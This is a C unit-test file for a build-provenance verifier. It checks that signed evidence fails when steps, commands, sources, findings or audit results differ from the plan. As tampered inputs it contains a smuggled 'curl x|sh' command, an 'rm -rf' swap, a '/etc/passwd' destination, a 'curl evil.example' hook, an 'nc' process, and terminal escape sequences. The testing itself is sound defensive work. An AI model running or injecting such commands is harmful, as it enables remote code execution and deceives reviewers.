/* Evidence that is signed well and still wrong: the signer lied, or the builder did not do it. */
#include "verdict.h"

#include "base/file.h"

static void change_plan(struct example *e, const char *from, const char *to)
{
	e->plan = example_replace(&e->arena, e->plan, from, to);
}

static void change_findings(struct example *e, const char *from, const char *to)
{
	e->findings = example_replace(&e->arena, e->findings, from, to);
}

/* A line more, before the one that holds `text`. */
static void insert_line(struct example *e, const char *text, const char *line)
{
	size_t at = 0;
	while (!str_contains(e->lines.items[at], str_from(text)))
		at++;
	list_push(&e->arena, &e->lines) = STR("");
	memmove(&e->lines.items[at + 1], &e->lines.items[at],
		(e->lines.n - 1 - at) * sizeof(e->lines.items[0]));
	e->lines.items[at] = str_from(line);
}

static void set_parameter(struct example *e, const char *object, const char *key, const char *text)
{
	struct error err = {0};
	struct json *value = NULL;
	struct json *root = NULL;
	scoped(buf) b = {0};
	json_write_compact(&b, e->input.external_parameters);
	assert_int_equal(json_parse(&root, &e->arena, buf_str(&b), STR("p"), NULL, &err), 0);
	assert_int_equal(json_parse(&value, &e->arena, str_from(text), STR("v"), NULL, &err), 0);
	json_set(&e->arena, object ? json_find(root, object) : root, key, value);
	e->input.external_parameters = root;
}

/* ---- Steps ----------------------------------------------------------------------------------- */

#define STEP(id, kind) "{\"type\":\"step\",\"id\":" #id ",\"kind\":\"" kind "\"}"
#define RETRY(id, kind, n) \
	"{\"type\":\"step\",\"id\":" #id ",\"kind\":\"" kind "\",\"attempt\":" #n "}"
#define END(id, code) \
	"{\"type\":\"step-end\",\"id\":" #id ",\"coverage\":\"processes\",\"exit_code\":" #code "}"

static void a_step_that_is_missing_is_named(void **state)
{
	struct example *e = *state;
	example_line(e, "\"step\",\"id\":3", NULL);
	example_line(e, "\"step-end\",\"id\":3", NULL);
	assert_fails(e, example_write(e), "manifest.steps", "step 5 comes before a step");
}

static void a_last_step_that_is_missing_is_named(void **state)
{
	struct example *e = *state;
	example_line(e, "\"step\",\"id\":5", NULL);
	example_line(e, "\"argv\":[\"reboot\"]", NULL);
	example_line(e, "\"step-end\",\"id\":5", NULL);
	assert_fails(e, example_write(e), "manifest.steps", "step 5 did not run");
}

static void a_step_beyond_the_plan_is_named(void **state)
{
	struct example *e = *state;
	insert_line(e, "image_id", STEP(6, "exec"));
	insert_line(e, "image_id", END(6, 0));
	assert_fails(e, example_write(e), "manifest.steps", "step 6 is not in the plan");
}

static void a_step_after_the_capture_is_named(void **state)
{
	struct example *e = *state;
	insert_line(e, "footer", STEP(5, "exec"));
	assert_fails(e, example_write(e), "manifest.steps", "after the image was captured");
}

static void a_step_of_another_kind_is_named(void **state)
{
	struct example *e = *state;
	example_line(e, "\"step\",\"id\":1", STEP(1, "exec"));
	assert_fails(e, example_write(e), "manifest.steps", "step 1 is of another kind");
}

static void a_step_that_runs_twice_is_named(void **state)
{
	struct example *e = *state;
	insert_line(e, "\"step\",\"id\":2", STEP(1, "upload"));
	insert_line(e, "\"step\",\"id\":2", END(1, 0));
	assert_fails(e, example_write(e), "manifest.steps", "step 1 comes again");
}

static void a_step_inside_another_one_is_named(void **state)
{
	struct example *e = *state;
	example_line(e, "\"step-end\",\"id\":1", NULL);
	assert_fails(e, example_write(e), "manifest.steps", "step 2 begins inside");
}

static void an_end_without_a_start_is_named(void **state)
{
	struct example *e = *state;
	example_line(e, "\"step-end\",\"id\":1", END(2, 0));
	assert_fails(e, example_write(e), "manifest.steps", "step 2 ends without");
}

static void an_exit_code_that_the_plan_does_not_accept_fails(void **state)
{
	struct example *e = *state;
	example_line(e, "\"step-end\",\"id\":2", END(2, 1));
	assert_fails(
		e, example_write(e), "manifest.steps", "step 3 comes after a step that failed");
}

#define SKIPPED(id) \
	"{\"type\":\"step-end\",\"id\":" #id \
	",\"coverage\":\"processes\",\"exit_code\":0,\"skipped\":\"it does not boot\"}"

static void a_provisioner_may_not_be_skipped(void **state)
{
	struct example *e = *state;
	example_line(e, "\"argv\":[\"reboot\"]", NULL);
	example_line(e, "\"step-end\",\"id\":5", SKIPPED(5));
	assert_fails(e, example_write(e), "manifest.steps", "step 5 was not run");
}

static void what_ends_a_machine_may_be_skipped(void **state)
{
	struct example *e = *state;
	e->plan = example_replace(&e->arena, e->plan, "{\"type\":\"shell\",\"steps\":[{\"id\":5",
		"{\"phase\":\"finish\",\"type\":\"builder\",\"steps\":[{\"id\":5");
	example_line(e, "\"step-end\",\"id\":5", SKIPPED(5));
	assert_passes(e, example_write(e));
}

static void a_step_with_an_error_fails(void **state)
{
	struct example *e = *state;
	example_line(e, "\"step-end\",\"id\":1",
		"{\"type\":\"step-end\",\"id\":1,\"exit_code\":0,\"error\":\"disk full\"}");
	assert_fails(
		e, example_write(e), "manifest.steps", "step 2 comes after a step that failed");
}

static void an_exec_without_exit_code_fails(void **state)
{
	struct example *e = *state;
	example_line(e, "\"step-end\",\"id\":2", "{\"type\":\"step-end\",\"id\":2}");
	assert_fails(
		e, example_write(e), "manifest.steps", "step 3 comes after a step that failed");
}

static void a_disconnect_that_the_plan_does_not_expect_fails(void **state)
{
	struct example *e = *state;
	change_plan(e, "\"expect_disconnect\":true,", "");
	assert_fails(e, example_write(e), "manifest.steps", "step 5 failed");
}

static void a_group_may_be_tried_again_as_often_as_the_plan_says(void **state)
{
	struct example *e = *state;
	static const size_t again[] = {2, 3, 4, 9, 10, 11};
	struct str lines[countof(again)] = {0};
	for (size_t i = 0; i < countof(again); i++)
		lines[i] = e->lines.items[again[i]];
	example_line(e, "\"step-end\",\"id\":2", END(2, 1));
	example_line(e, "\"step\",\"id\":3", NULL);
	example_line(e, "\"step-end\",\"id\":3", NULL);
	for (size_t i = 0; i < countof(again); i++) {
		struct str line = str_contains(lines[i], STR("\"step\""))
			? example_replace(&e->arena, lines[i], "\"id\"", "\"attempt\":2,\"id\"")
			: lines[i];
		insert_line(e, "\"step\",\"id\":5", arena_cstr(&e->arena, line));
	}
	assert_passes(e, example_write(e));
	change_plan(e, "\"max_retries\":1", "\"max_retries\":0");
	e->replay_plan = (struct str){0};
	assert_fails(e, example_write(e), "manifest.steps", "more often than the plan allows");
}

static void a_step_for_failures_does_not_run_in_a_good_build(void **state)
{
	struct example *e = *state;
	insert_line(e, "\"step\",\"id\":5", STEP(4, "exec"));
	insert_line(e, "\"step\",\"id\":5", END(4, 0));
	assert_fails(e, example_write(e), "manifest.steps", "step 4 ran although nothing failed");
}

/* ---- What was asked -------------------------------------------------------------------------- */

static void what_was_asked_is_the_plans(void **state)
{
	(void)state;
	static const struct {
		const char *from;
		const char *to;
		const char *reason;
	} cases[] = {
		{"\"rm -f /tmp/script.sh\"", "\"rm -f /tmp/script.sh; curl x|sh\"",
			"command of step 3"},
		{"\"rm -f", "\"rm -rf", "command of step 3"},
		{"HOST=10", "HAST=10", "command of step 2"},
		{"10.0.0.1 /tmp/script.sh", "10.0.0.1 /tmp/script.sh x", "command of step 2"},
		{"TOKEN=<sensitive:token>", "TOKEN=1234", "command of step 2"},
		{"/tmp/script.sh\",\"sha256", "/etc/passwd\",\"sha256", "destination of step 1"},
		{"\"sha256\":\"cccc", "\"sha256\":\"dccc", "sha256 of step 1"},
		{",\"command\":\"reboot\"", "", "command of step 5"},
	};
	for (size_t i = 0; i < countof(cases); i++) {
		struct example e = {0};
		size_t at = 0;
		example_init(&e, "test-only-p256");
		while (!str_contains(e.lines.items[at], STR("\"step\"")) ||
			!str_contains(e.lines.items[at], str_from(cases[i].from)))
			at++;
		e.lines.items[at] =
			example_replace(&e.arena, e.lines.items[at], cases[i].from, cases[i].to);
		assert_fails(&e, example_write(&e), "manifest.asked", cases[i].reason);
		example_clear(&e);
	}
}

static void a_secret_that_stands_in_a_literal_too_is_no_difference(void **state)
{
	struct example *e = *state;
	example_line(e, "\"rm -f /tmp/script.sh\"",
		"{\"type\":\"step\",\"id\":3,\"kind\":\"exec\","
		"\"command\":\"rm -f /<sensitive:x>/script.sh\"}");
	assert_passes(e, example_write(e));
}

static void a_plan_without_numbers_is_refused(void **state)
{
	struct example *e = *state;
	change_plan(e, "\"id\":3", "\"id\":7");
	assert_fails(e, example_write(e), "plan.form", "not grouped and numbered");
}

/* ---- Processes ------------------------------------------------------------------------------- */

static void a_process_outside_of_every_step_is_named(void **state)
{
	struct example *e = *state;
	example_line(e, "\"argv\":[\"reboot\"]",
		"{\"type\":\"exec\",\"step\":0,\"id\":3,\"parent\":0,\"replaces\":0,"
		"\"argv\":[\"nc\"]}");
	assert_fails(e, example_write(e), "manifest.processes", "outside of every step");
}

static void a_process_of_a_step_that_has_not_begun_is_named(void **state)
{
	struct example *e = *state;
	example_line(e, "\"apt-get\"",
		"{\"type\":\"exec\",\"step\":5,\"id\":2,\"parent\":0,\"replaces\":0,"
		"\"argv\":[\"nc\"]}");
	assert_fails(e, example_write(e), "manifest.processes", "outside of every step");
}

static void a_process_without_its_parent_is_named(void **state)
{
	struct example *e = *state;
	example_line(e, "\"/bin/sh\"", NULL);
	example_line(e, "\"exit\",\"step\":2,\"id\":1", NULL);
	example_line(e, "footer", "{\"type\":\"footer\",\"ok\":true,\"execs\":2,\"gaps\":0}");
	assert_fails(e, example_write(e), "manifest.processes", "descends from one");
}

static void a_count_of_processes_that_does_not_fit_fails(void **state)
{
	struct example *e = *state;
	example_line(e, "\"argv\":[\"reboot\"]", NULL);
	assert_fails(e, example_write(e), "manifest.footer", "differ");
}

static void a_build_that_did_not_end_well_fails(void **state)
{
	struct example *e = *state;
	example_line(e, "footer", "{\"type\":\"footer\",\"ok\":false,\"execs\":3,\"gaps\":0}");
	assert_fails(e, example_write(e), "manifest.footer", "differ");
}

static void a_gap_is_less_than_the_coverage_of_processes(void **state)
{
	struct example *e = *state;
	insert_line(e, "\"step-end\",\"id\":2",
		"{\"type\":\"gap\",\"step\":2,\"id\":0,\"pid\":0,\"reason\":\"events were lost\"}");
	example_line(e, "footer", "{\"type\":\"footer\",\"ok\":true,\"execs\":3,\"gaps\":1}");
	assert_fails(e, example_write(e), "manifest.coverage", "less was recorded than is claimed");
	e->input.coverage = STR("steps");
	assert_passes(e, example_write(e));
	e->options.coverage = STR("processes");
	assert_fails(e, example_write(e), "manifest.coverage", "than is demanded");
}

static void a_step_without_processes_is_less_than_their_coverage(void **state)
{
	struct example *e = *state;
	example_line(e, "\"step-end\",\"id\":3",
		"{\"type\":\"step-end\",\"id\":3,\"coverage\":\"steps\",\"exit_code\":0}");
	assert_fails(e, example_write(e), "manifest.coverage", "than is claimed");
}

static void a_footer_of_another_coverage_fails(void **state)
{
	struct example *e = *state;
	example_line(e, "footer",
		"{\"type\":\"footer\",\"ok\":true,\"execs\":3,\"gaps\":0,\"coverage\":\"steps\"}");
	assert_fails(e, example_write(e), "manifest.coverage", "the footer");
}

static void an_input_that_is_no_resolved_dependency_fails(void **state)
{
	struct example *e = *state;
	e->materials[1].value =
		STR("eeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeee");
	assert_fails(e, example_write(e), "manifest.inputs", "base is not a resolved dependency");
}

static void an_unknown_coverage_fails(void **state)
{
	struct example *e = *state;
	e->input.coverage = STR("everything");
	assert_fails(e, example_write(e), "manifest.coverage", "not known");
}

/* ---- Header, artifact, times ----------------------------------------------------------------- */

static void a_header_of_another_plan_build_or_commit_fails(void **state)
{
	(void)state;
	static const struct {
		const char *from;
		const char *to;
	} cases[] = {
		{"%PLAN%", "0000000000000000000000000000000000000000000000000000000000000000"},
		{"\"build\":\"redis\"", "\"build\":\"other\""},
		{"\"builder\":\"rootfs\"", "\"builder\":\"qemu\""},
		{EXAMPLE_COMMIT, "1123456789abcdef0123456789abcdef01234567"},
	};
	for (size_t i = 0; i < countof(cases); i++) {
		struct example e = {0};
		example_init(&e, "test-only-p256");
		e.lines.items[0] =
			example_replace(&e.arena, e.lines.items[0], cases[i].from, cases[i].to);
		assert_fails(&e, example_write(&e), "manifest.header", "differ");
		example_clear(&e);
	}
}

static void two_artifacts_or_none_fail(void **state)
{
	struct example *e = *state;
	insert_line(e, "footer", "{\"type\":\"artifact\",\"image_id\":\"" EXAMPLE_IMAGE "\"}");
	assert_fails(e, example_write(e), "manifest.artifact", "2 artifacts");
	example_line(e, "image_id", NULL);
	example_line(e, "image_id", NULL);
	assert_fails(e, example_write(e), "manifest.artifact", "0 artifacts");
	assert_fails(e, example_write(e), "image.id", "not a subject");
}

static void times_out_of_order_fail(void **state)
{
	struct example *e = *state;
	e->options.now = EXAMPLE_END - 1;
	assert_fails(e, example_write(e), "time.order", "in the future");
	e->options.now = EXAMPLE_END;
	assert_passes(e, example_write(e));
	example_line(e, "footer",
		"{\"type\":\"footer\",\"ok\":true,\"execs\":3,\"gaps\":0,"
		"\"end\":\"2025-11-24T16:01:01.000000000Z\"}");
	assert_fails(e, example_write(e), "time.order", "line 17 of the manifest lies outside");
}

/* ---- Source ---------------------------------------------------------------------------------- */

static void another_commit_than_the_one_asked_for_fails(void **state)
{
	struct example *e = *state;
	e->materials[0].value = STR("1123456789abcdef0123456789abcdef01234567");
	assert_fails(e, example_write(e), "source.commit", "differ");
}

static void another_repository_than_the_one_asked_for_fails(void **state)
{
	struct example *e = *state;
	static const char *const uris[] = {"git+https://git.example/redis.git.evil",
		"git+https://evil.example/redis.git", "", "git+" EXAMPLE_URL "@v1", EXAMPLE_URL,
		"git+" EXAMPLE_URL "@1123456789abcdef0123456789abcdef01234567"};
	for (size_t i = 0; i < countof(uris); i++) {
		e->materials[0].uri = str_from(uris[i]);
		assert_fails(e, example_write(e), "source.commit", "was taken from");
	}
	e->materials[0].uri = STR("git+" EXAMPLE_URL "@refs/tags/v1");
	assert_passes(e, example_write(e));
	e->materials[0].uri = STR("git+" EXAMPLE_URL "@" EXAMPLE_COMMIT);
	assert_passes(e, example_write(e));
}

static void a_source_that_is_no_full_commit_fails(void **state)
{
	struct example *e = *state;
	set_parameter(e, "source", "commit", "\"0123456\"");
	assert_fails(e, example_write(e), "source.commit", "names no uri and commit");
}

static void an_unknown_parameter_fails(void **state)
{
	struct example *e = *state;
	set_parameter(e, NULL, "hook", "\"curl evil.example\"");
	assert_fails(e, example_write(e), "source.parameters", "hook");
}

static void what_the_reviewer_expects_is_compared(void **state)
{
	struct example *e = *state;
	struct str bytes = example_write(e);
	e->options.repository = STR(EXAMPLE_URL);
	e->options.commit = STR(EXAMPLE_COMMIT);
	e->options.builder_id = STR(EXAMPLE_BUILDER);
	e->options.coverage = STR("processes");
	assert_passes(e, bytes);
	e->options.repository = STR("https://git.example/redis");
	assert_fails(e, bytes, "source.repository-expected", "differ");
	e->options.commit = STR("0123456789abcdef0123456789abcdef0123456");
	assert_fails(e, bytes, "source.commit-expected", "differ");
	e->options.builder_id = STR("https://builder.example/pool-");
	assert_fails(e, bytes, "builder.id-expected", "differ");
}

/* ---- Verdict --------------------------------------------------------------------------------- */

static void a_failed_audit_fails(void **state)
{
	struct example *e = *state;
	e->input.audit_passed = false;
	assert_fails(e, example_write(e), "verdict.result", "differ");
	assert_fails(e, example_write(e), "verdict.policy", "differ");
}

static void a_passed_audit_with_failed_rules_fails(void **state)
{
	struct example *e = *state;
	struct str failed = STR("PK003");
	e->input.failed_rules = (struct str_list){&failed, 1, 1};
	assert_fails(e, example_write(e), "verdict.result", "although 1 rules failed");
	assert_fails(e, example_write(e), "verdict.findings", "failed without a finding");
}

static void findings_that_contradict_the_test_result_fail(void **state)
{
	(void)state;
	static const struct {
		const char *from;
		const char *to;
		const char *id;
		const char *reason;
	} cases[] = {
		{"{\"kind\":\"external\"}", "", "verdict.findings", "RX001 is said to have passed"},
		{"\"PK003\"", "\"PK004\"", "verdict.findings", "PK003 is said to have warned"},
		{"\"severity\":\"low\"", "\"severity\":\"critical\"", "verdict.findings",
			"PK003 has a finding that fails"},
		{"\"severity\":\"low\"", "\"severity\":\"odd\"", "verdict.findings",
			"PK003 has a finding that fails"},
		{"\"results\":[",
			"\"results\":[{\"ruleId\":\"ZZ001\","
			"\"properties\":{\"severity\":\"low\"}},",
			"verdict.findings", "ZZ001 has a finding that the test result leaves out"},
		{"\"threshold\":\"high\"", "\"threshold\":\"none\"", "verdict.findings",
			"threshold"},
		{"\"ruleId\":\"PK003\"", "\"ruleId\":3", "verdict.findings", "ruleId"},
		{"\"verdict\":\"PASS\"", "\"verdict\":\"FAIL\"", "verdict.policy", "differ"},
		{"\"profile\":\"baseline\"", "\"profile\":\"lax\"", "verdict.policy", "differ"},
		{"\"policyDigest\":\"", "\"policyDigest\":\"0", "verdict.policy", "differ"},
		{"2.1.0", "2.0.0", "findings.form", "version"},
		{"\"runs\":[", "\"runs\":[{},", "findings.form", "one run"},
	};
	for (size_t i = 0; i < countof(cases); i++) {
		struct example e = {0};
		example_init(&e, "test-only-p256");
		change_findings(&e, cases[i].from, cases[i].to);
		assert_fails(&e, example_write(&e), cases[i].id, cases[i].reason);
		example_clear(&e);
	}
}

/* ---- The audit repeated ---------------------------------------------------------------------- */

static void a_replay_that_gives_something_else_fails(void **state)
{
	struct example *e = *state;
	e->replay_plan = STR("{}");
	assert_fails(e, example_write(e), "replay.plan", "differ");
	e->replay_findings = STR("{}");
	assert_fails(e, example_write(e), "replay.findings", "differ");
}

static void what_cannot_be_repeated_is_unknown(void **state)
{
	struct example *e = *state;
	struct str bytes = example_write(e);
	e->replay_unknown_policy = true;
	assert_unknown(e, bytes, "replay.findings", "is not known here");
	e->replay_fails = true;
	assert_unknown(e, bytes, "replay.plan", "cannot be unpacked");
	assert_unknown(e, bytes, "replay.findings", "cannot be unpacked");
	e->options.replay = NULL;
	assert_unknown(e, bytes, "replay.plan", "not repeated");
}

/* ---- Statements and form --------------------------------------------------------------------- */

static void a_statement_with_more_than_it_should_say_fails(void **state)
{
	struct example *e = *state;
	struct error err = {0};
	struct str members[MEMBERS] = {0};
	struct str bytes = example_write(e);
	example_members(members, bytes);
	struct str line = str_sub(members[0], 0, str_find_byte(members[0], '\n'));
	struct str payload = {0};
	struct json *root = NULL;
	assert_int_equal(bundle_open(&payload, &e->arena, line, e->keys, 1, NULL, &err), 0);
	assert_int_equal(json_parse(&root, &e->arena, payload, STR("s"), NULL, &err), 0);
	struct json *run = json_find(json_find(root, "predicate"), "runDetails");
	json_set(&e->arena, json_find(run, "metadata"), "level", json_i64(&e->arena, 3));
	scoped(buf) more = {0};
	scoped(buf) bundle = {0};
	json_write_canonical(&more, root);
	assert_int_equal(bundle_write(&bundle, buf_str(&more), e->private, &err), 0);
	buf_add_byte(&bundle, '\n');
	buf_add(&bundle, str_from_index(members[0], line.n + 1));
	assert_fails(e, example_exchange(&e->arena, bytes, ATTESTATIONS, buf_str(&bundle)),
		"statement.provenance", "/predicate/runDetails/metadata/level");
}

static void control_characters_of_the_evidence_do_not_reach_the_reader(void **state)
{
	struct example *e = *state;
	set_parameter(e, NULL, "hook\\u001b[2J", "1");
	set_parameter(e, NULL, "x", "1");
	e->input.builder_id = STR("\x1b]0;verified\x07");
	e->options.builder_id = STR("b");
	scoped_ptr(verification) v = example_verify(e, example_write(e));
	for (size_t i = 0; i < v->checks.n; i++) {
		const struct check *c = &v->checks.items[i];
		assert_false(str_contains(c->reason, STR("\x1b")));
		assert_false(str_contains(c->found, STR("\x1b")));
		assert_false(str_contains(c->expected, STR("\x1b")));
	}
	assert_true(str_contains(v->builder_id, STR("\\x1b")));
	assert_true(str_contains(find_check(v, "builder.id-expected")->found, STR("\\x1b")));
}

static void the_result_is_written_as_json(void **state)
{
	struct example *e = *state;
	scoped_ptr(verification) v = example_verify(e, example_write(e));
	const struct json *j = verification_to_json(v, &e->arena);
	assert_true(json_bool_or(j, "passed", false));
	assert_true(str_is(json_str_or(j, "image_id", STR("")), EXAMPLE_IMAGE));
	assert_true(str_is(json_str_or(j, "finished", STR("")), "2025-11-24T16:01:00Z"));
	const struct json *checks = json_find(j, "checks");
	assert_int_equal(checks->array.n, v->checks.n);
	for (size_t i = 0; i < checks->array.n; i++)
		assert_true(
			str_is(json_str_or(checks->array.items[i], "result", STR("")), "passed"));
}

static void every_check_is_in_the_documentation(void **state)
{
	struct example *e = *state;
	struct error err = {0};
	scoped(buf) text = {0};
	assert_int_equal(
		file_read(&text, AT_FDCWD, SOURCE_DIR "/docs/evidence.md", 1 << 20, &err), 0);
	e->options.repository = STR("x");
	e->options.commit = STR("x");
	e->options.builder_id = STR("x");
	scoped_ptr(verification) v = example_verify(e, example_write(e));
	assert_true(v->checks.n > 30);
	for (size_t i = 0; i < v->checks.n; i++) {
		struct str quoted =
			arena_printf(&e->arena, "`%.*s`", STR_ARG(v->checks.items[i].id));
		if (!str_contains(buf_str(&text), quoted))
			fail_msg("docs/evidence.md: %.*s is missing", STR_ARG(quoted));
	}
}

static void evidence_is_not_written_of_nonsense(void **state)
{
	struct example *e = *state;
	struct error err = {0};
	scoped(buf) out = {0};
	example_write(e);
	struct evidence_input good = e->input;
	struct evidence_input bad = good;
	bad.subject_count = 0;
	assert_int_equal(evidence_write(&out, &bad, e->private, &err), -1);
	bad = good;
	bad.plan = STR("{ }");
	assert_int_equal(evidence_write(&out, &bad, e->private, &err), -1);
	bad = good;
	bad.manifest = str_sub(bad.manifest, 0, bad.manifest.n - 1);
	assert_int_equal(evidence_write(&out, &bad, e->private, &err), -1);
	bad = good;
	bad.finished = bad.started - 1;
	assert_int_equal(evidence_write(&out, &bad, e->private, &err), -1);
	bad = good;
	bad.material_count = 0;
	assert_int_equal(evidence_write(&out, &bad, e->private, &err), -1);
	e->subjects[0].value = STR("ABC");
	assert_int_equal(evidence_write(&out, &good, e->private, &err), -1);
	assert_int_equal(out.n, 0);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		EXAMPLE_TEST(a_step_that_is_missing_is_named),
		EXAMPLE_TEST(a_last_step_that_is_missing_is_named),
		EXAMPLE_TEST(a_step_beyond_the_plan_is_named),
		EXAMPLE_TEST(a_step_after_the_capture_is_named),
		EXAMPLE_TEST(a_step_of_another_kind_is_named),
		EXAMPLE_TEST(a_step_that_runs_twice_is_named),
		EXAMPLE_TEST(a_step_inside_another_one_is_named),
		EXAMPLE_TEST(an_end_without_a_start_is_named),
		EXAMPLE_TEST(an_exit_code_that_the_plan_does_not_accept_fails),
		EXAMPLE_TEST(a_provisioner_may_not_be_skipped),
		EXAMPLE_TEST(what_ends_a_machine_may_be_skipped),
		EXAMPLE_TEST(a_step_with_an_error_fails),
		EXAMPLE_TEST(an_exec_without_exit_code_fails),
		EXAMPLE_TEST(a_disconnect_that_the_plan_does_not_expect_fails),
		EXAMPLE_TEST(a_group_may_be_tried_again_as_often_as_the_plan_says),
		EXAMPLE_TEST(a_step_for_failures_does_not_run_in_a_good_build),
		EXAMPLE_TEST(what_was_asked_is_the_plans),
		EXAMPLE_TEST(a_secret_that_stands_in_a_literal_too_is_no_difference),
		EXAMPLE_TEST(a_plan_without_numbers_is_refused),
		EXAMPLE_TEST(a_process_outside_of_every_step_is_named),
		EXAMPLE_TEST(a_process_of_a_step_that_has_not_begun_is_named),
		EXAMPLE_TEST(a_process_without_its_parent_is_named),
		EXAMPLE_TEST(a_count_of_processes_that_does_not_fit_fails),
		EXAMPLE_TEST(a_build_that_did_not_end_well_fails),
		EXAMPLE_TEST(a_gap_is_less_than_the_coverage_of_processes),
		EXAMPLE_TEST(a_step_without_processes_is_less_than_their_coverage),
		EXAMPLE_TEST(a_footer_of_another_coverage_fails),
		EXAMPLE_TEST(an_input_that_is_no_resolved_dependency_fails),
		EXAMPLE_TEST(an_unknown_coverage_fails),
		EXAMPLE_TEST(a_header_of_another_plan_build_or_commit_fails),
		EXAMPLE_TEST(two_artifacts_or_none_fail),
		EXAMPLE_TEST(times_out_of_order_fail),
		EXAMPLE_TEST(another_commit_than_the_one_asked_for_fails),
		EXAMPLE_TEST(another_repository_than_the_one_asked_for_fails),
		EXAMPLE_TEST(a_source_that_is_no_full_commit_fails),
		EXAMPLE_TEST(an_unknown_parameter_fails),
		EXAMPLE_TEST(what_the_reviewer_expects_is_compared),
		EXAMPLE_TEST(a_failed_audit_fails),
		EXAMPLE_TEST(a_passed_audit_with_failed_rules_fails),
		EXAMPLE_TEST(findings_that_contradict_the_test_result_fail),
		EXAMPLE_TEST(a_replay_that_gives_something_else_fails),
		EXAMPLE_TEST(what_cannot_be_repeated_is_unknown),
		EXAMPLE_TEST(a_statement_with_more_than_it_should_say_fails),
		EXAMPLE_TEST(control_characters_of_the_evidence_do_not_reach_the_reader),
		EXAMPLE_TEST(the_result_is_written_as_json),
		EXAMPLE_TEST(every_check_is_in_the_documentation),
		EXAMPLE_TEST(evidence_is_not_written_of_nonsense),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
